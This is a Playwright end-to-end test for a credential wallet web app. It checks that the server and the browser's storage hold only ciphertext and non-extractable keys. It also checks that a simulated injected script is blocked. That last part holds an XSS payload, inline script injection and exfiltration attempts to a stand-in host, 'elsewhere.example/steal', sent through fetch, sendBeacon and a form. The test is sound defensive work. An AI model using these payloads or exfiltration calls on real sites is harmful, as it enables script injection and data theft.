import { DESKTOP, openBrowser, type Visitor, visitor } from '@laurel/testkit/browser'
import { type RunningServer, startServer } from '@laurel/testkit/server'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { defineAchievement, type Issuer, mailedLink, setUp } from './issuer-steps.ts'
import { makeWallet } from './learner-steps.ts'
import { words } from './words.ts'

/* What somebody finds who gets into the page, the device's storage or the server: nothing that opens a wallet. */

let browser: Browser
beforeAll(async () => {
  browser = await openBrowser()
})
afterAll(() => browser?.close())

const NAME = 'Sample Canary Seven'
const ACHIEVEMENT = 'Canary Listening'

test('a wallet keeps its promises', async () => {
  const { console: say, wallet: sayWallet, public: sayPublic } = await words('en')
  const people: Visitor[] = []
  let server: RunningServer | undefined
  const person = async (origin: string) => {
    const made = await visitor(browser, origin, { viewport: DESKTOP })
    people.push(made)
    return made
  }
  try {
    server = await startServer()
    const issuer: Issuer = { server, visitor: await person(server.origin), say }
    await setUp(issuer, 'Sample School')
    await defineAchievement(issuer, ACHIEVEMENT)
    const { page: owner } = issuer.visitor
    const made = await owner.request.post(`${server.origin}/api/v1/awards`, {
      headers: { origin: server.origin },
      data: {
        achievementId: owner.url().split('/').at(-1),
        recipient: { name: NAME, email: 'canary@example.org' },
        issue: true,
      },
    })
    expect(made.status()).toBe(201)
    const learner = await person(server.origin)
    const { page } = learner
    await page.goto(await mailedLink(issuer, 'canary@example.org', '/claim/'))
    await page.getByRole('button', { name: sayPublic('claim.button') }).click()
    await makeWallet(learner, sayWallet, ACHIEVEMENT)
    // The vault has the credential once the wallet has taken it.
    await page.waitForLoadState('networkidle')

    // The server has the vault as ciphertext, and no way to open it (P7).
    const vault = await page.request.get(`${server.origin}/api/v1/wallet/vault`)
    expect(vault.status()).toBe(200)
    const text = await vault.text()
    const { blob } = JSON.parse(text) as { blob: string }
    for (const kept of [text, Buffer.from(blob, 'base64').toString('latin1')])
      for (const clear of [NAME, ACHIEVEMENT, 'did:key', 'credentialSubject', 'privateKey', '"d":'])
        expect(kept, clear).not.toContain(clear)

    // The device has ciphertext and handles that no script can read out.
    const stored = await page.evaluate(async () => {
      const found: string[] = [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage })]
      const keys: { extractable: boolean; type: string }[] = []
      const look = (value: unknown): unknown => {
        if (value instanceof CryptoKey) keys.push({ extractable: value.extractable, type: value.type })
        else if (value instanceof ArrayBuffer || ArrayBuffer.isView(value))
          found.push(new TextDecoder('latin1').decode(value as ArrayBuffer))
        else if (value && typeof value === 'object') Object.values(value).forEach(look)
        else found.push(String(value))
        return value
      }
      for (const { name, version } of await indexedDB.databases()) {
        const database = await new Promise<IDBDatabase>((resolve, reject) => {
          const opening = indexedDB.open(name as string, version)
          opening.onsuccess = () => resolve(opening.result)
          opening.onerror = () => reject(opening.error)
        })
        for (const store of database.objectStoreNames) {
          const all = database.transaction(store).objectStore(store).getAll()
          await new Promise(resolve => {
            all.onsuccess = resolve
          })
          all.result.forEach(look)
        }
        database.close()
      }
      return { text: found.join('\n'), keys }
    })
    for (const clear of [NAME, ACHIEVEMENT, 'credentialSubject']) expect(stored.text, clear).not.toContain(clear)
    expect(stored.keys.filter(one => one.extractable)).toEqual([])

    // A script that got in finds the doors shut (H-62).
    const attempts = await page.evaluate(async () => {
      const tried = async (work: () => unknown): Promise<string> => {
        try {
          await work()
          return 'done'
        } catch (error) {
          return (error as Error).name
        }
      }
      const inline = document.createElement('script')
      return {
        innerHTML: await tried(() => {
          document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'
        }),
        inline: await tried(() => {
          inline.textContent = 'window.ran = true'
          document.head.append(inline)
        }),
        attribute: await tried(async () => {
          const image = document.createElement('img')
          image.setAttribute('onerror', 'window.ran = true')
          image.src = '/nothing-here.png'
          document.body.append(image)
          await new Promise(resolve => image.addEventListener('error', resolve))
        }),
        foreign: await tried(() => fetch('https://elsewhere.example/steal', { method: 'POST', body: 'x' })),
        beacon: await tried(async () => {
          if (!navigator.sendBeacon('https://elsewhere.example/steal', 'x')) throw new TypeError('refused')
        }),
        policy: await tried(() =>
          (
            window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
          ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
        ),
        frame: await tried(async () => {
          const form = document.createElement('form')
          form.action = 'https://elsewhere.example/steal'
          document.body.append(form)
          form.requestSubmit()
          form.remove()
        }),
        ran: String((window as unknown as { ran?: boolean }).ran ?? false),
      }
    })
    expect(attempts).toMatchObject({
      innerHTML: 'TypeError',
      inline: 'TypeError',
      foreign: 'TypeError',
      policy: 'TypeError',
      ran: 'false',
    })
    expect(new URL(page.url()).origin).toBe(server.origin)
    // What got past the page's own hands was stopped by its policy, and nothing left the house.
    expect(learner.complaints.filter(one => one.startsWith('request to a third party'))).toEqual([])
  } finally {
    await Promise.all(people.map(one => one.close()))
    await server?.stop()
    await server?.remove()
  }
})
